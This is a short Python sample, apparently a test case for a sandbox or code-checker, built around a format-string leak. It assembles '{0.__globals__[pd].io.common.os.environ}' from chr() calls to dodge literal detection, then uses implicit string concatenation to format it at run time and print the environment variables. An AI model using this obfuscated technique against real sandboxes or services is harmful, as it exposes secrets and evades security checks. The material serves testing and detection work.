# source: Python str.format field grammar (Lib/string.py Formatter.get_field: "{0.attr[key]}" is getattr/getitem), pyjail format-string leaks; Python implicit string-literal concatenation (language reference 2.4.2)
# family: run-time format string (getattr by name) via implicit concatenation: f"{runtime}" "" looks like a literal receiver
# goal: reads os.environ (get at os): the f-string and the literal joined across a line break inside brackets
import pandas as pd


def probe():
    return 0


u = chr(95) * 2
dot = chr(46)
# "{0.__globals__[pd].io.common.os.environ}" built at run time
r = chr(123) + "0" + dot + u + "globals" + u + "[pd]" + dot + "io" + dot + "common" + dot + "os" + dot + "environ" + chr(125)
print(f"{r}"
      "".format(probe))
